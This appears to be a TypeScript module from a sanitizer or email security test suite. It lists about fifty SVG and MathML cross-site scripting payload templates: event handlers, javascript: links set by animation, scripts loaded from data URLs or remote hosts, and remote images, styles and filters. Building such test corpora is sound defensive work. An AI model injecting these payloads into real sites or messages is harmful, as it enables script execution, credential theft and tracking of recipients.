import { base64, type PayloadClass } from './payload'

/** SVG and MathML: scripts, animations that change a link, pictures and filters from elsewhere. */
export const drawings: PayloadClass = {
  name: 'drawings and formulas',
  payloads: [
    ['svg that loads', ({ js }) => `<svg onload=${js}></svg>`],
    ['svg without blanks', ({ js }) => `<svg/onload=${js}>`],
    ['script in svg', ({ js }) => `<svg><script>${js}</script></svg>`],
    ['script in svg with entities', ({ js }) => `<svg><script>${js.replace('(', '&#40;')}</script></svg>`],
    ['script in svg from a data url', ({ js }) => `<svg><script href="data:text/javascript,${js}"/></svg>`],
    ['script in svg by xlink', ({ js }) => `<svg><script xlink:href="data:text/javascript,${js}"></script></svg>`],
    ['script in svg from a host', ({ url }) => `<svg><script href="${url}/x.js"></script></svg>`],
    ['script in svg in CDATA', ({ js }) => `<svg><script><![CDATA[${js}]]></script></svg>`],
    ['animation that begins', ({ js }) => `<svg><animate onbegin=${js} attributeName=x dur=1s></svg>`],
    ['animation that ends', ({ js }) => `<svg><animate onend=${js} attributeName=x dur=1ms></svg>`],
    ['set that begins', ({ js }) => `<svg><set onbegin=${js} attributeName=x dur=1s></svg>`],
    ['animateTransform that begins', ({ js }) => `<svg><animateTransform onbegin=${js} attributeName=transform dur=1s></svg>`],
    ['link in svg', ({ js }) => `<svg><a href="javascript:${js}"><text y=20>Rechnung</text></a></svg>`],
    ['link in svg by xlink', ({ js }) => `<svg><a xlink:href="javascript:${js}"><text y=20>Rechnung</text></a></svg>`],
    ['link changed by animate', ({ js }) => `<svg><a><animate attributeName=href values="javascript:${js}"/><text y=20>x</text></a></svg>`],
    [
      'link changed by animate with from and to',
      ({ js }) => `<svg><a><animate attributeName=href from="javascript:${js}" to=& /><text y=20>x</text></a></svg>`,
    ],
    [
      'link changed by animate with by',
      ({ js }) => `<svg><a href="#"><animate attributeName=href by="javascript:${js}" dur=1s /><text y=20>x</text></a></svg>`,
    ],
    ['link changed by set', ({ js }) => `<svg><a><set attributeName=href to="javascript:${js}"/><text y=20>x</text></a></svg>`],
    [
      'link changed by set with xlink',
      ({ js }) => `<svg><a><set attributeName=xlink:href to="javascript:${js}" begin=0s /><text y=20>x</text></a></svg>`,
    ],
    [
      'link changed by an animation elsewhere',
      ({ js, id }) =>
        `<svg><animate href="#l${id}" attributeName=href values="javascript:${js}"/><a id=l${id}><text y=20>x</text></a></svg>`,
    ],
    ['picture in svg', ({ url }) => `<svg><image href="${url}/x.png" width=9 height=9 /></svg>`],
    ['picture in svg by xlink', ({ url }) => `<svg><image xlink:href="${url}/x.png" width=9 height=9 /></svg>`],
    [
      'picture in svg set by an animation',
      ({ url }) => `<svg><image width=9 height=9><set attributeName=href to="${url}/x.png"/></image></svg>`,
    ],
    [
      'feImage',
      ({ url, id }) => `<svg><filter id=f${id}><feImage href="${url}/x.png"/></filter><rect width=9 height=9 filter="url(#f${id})"/></svg>`,
    ],
    ['use of another drawing', ({ url }) => `<svg><use href="${url}/x.svg#a"/></svg>`],
    [
      'use of a data url',
      ({ js }) =>
        `<svg><use href="data:image/svg+xml;base64,${base64(`<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x:' onerror='${js}'/></svg>`)}#x"/></svg>`,
    ],
    ['fill from elsewhere', ({ url }) => `<svg><rect width=9 height=9 fill="url(${url}/x.svg#a)"/></svg>`],
    ['stroke from elsewhere', ({ url }) => `<svg><rect width=9 height=9 stroke="url('${url}/x.svg#a')"/></svg>`],
    ['mask from elsewhere', ({ url }) => `<svg><rect width=9 height=9 mask="url(${url}/x.svg#a)"/></svg>`],
    ['clip path from elsewhere', ({ url }) => `<svg><rect width=9 height=9 clip-path="url(${url}/x.svg#a)"/></svg>`],
    ['filter from elsewhere', ({ url }) => `<svg><rect width=9 height=9 filter="url(${url}/x.svg#a)"/></svg>`],
    [
      'cursor from elsewhere',
      ({ url }) => `<svg cursor="url(${url}/x.cur),auto"><rect width=999 height=999 cursor="url(${url}/y.cur),auto"/></svg>`,
    ],
    ['marker from elsewhere', ({ url }) => `<svg><path d="M0 0L9 9L18 0" marker-mid="url(${url}/x.svg#a)"/></svg>`],
    ['style in svg', ({ url }) => `<svg><style>@import "${url}/x.css";</style></svg>`],
    ['style in svg with entities', ({ url }) => `<svg><style>&#64;import '${url}/x.css';</style></svg>`],
    ['link element in svg', ({ url }) => `<svg><link xmlns="http://www.w3.org/1999/xhtml" rel=stylesheet href="${url}/x.css"/></svg>`],
    ['HTML in a foreignObject', ({ js }) => `<svg><foreignObject><body onload=${js}><img src=x: onerror=${js}></foreignObject></svg>`],
    [
      'frame in a foreignObject',
      ({ js }) => `<svg><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${js}"></iframe></foreignObject></svg>`,
    ],
    ['handler element', ({ js }) => `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${js}</handler></svg>`],
    ['svg as a picture', ({ js }) => `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/>">`],
    [
      'svg as an object',
      ({ js }) =>
        `<object type="image/svg+xml" data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/>"></object>`,
    ],
    [
      'svg with a picture of its own as a picture',
      ({ url }) => `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${url}/x.png'/></svg>">`,
    ],
    ['formula with a link', ({ js }) => `<math href="javascript:${js}"><mtext>x</mtext></math>`],
    ['formula with a link inside', ({ js }) => `<math><mrow xlink:href="javascript:${js}"><mi>x</mi></mrow></math>`],
    [
      'formula with an action',
      ({ js }) => `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${js}">x</maction></math>`,
    ],
    ['formula with an event', ({ js }) => `<math><mi onmouseover=${js} onclick=${js}>x</mi></math>`],
    [
      'formula with HTML by annotation',
      ({ js }) => `<math><annotation-xml encoding="text/html"><img src=x: onerror=${js}></annotation-xml></math>`,
    ],
    ['formula with a style', ({ url }) => `<math><mtext style="background-image:url(${url}/x.png)">x</mtext></math>`],
    [
      'VML of old Outlook',
      ({ js, url }) => `<v:rect style="behavior:url(#default#VML)" onload=${js}><v:fill src="${url}/x.png"/></v:rect>`,
    ],
    ['XSLT in XML', ({ js }) => `<?xml-stylesheet type="text/xsl" href="data:text/xml,<x:stylesheet/>"?><svg onload=${js}>`],
  ],
}
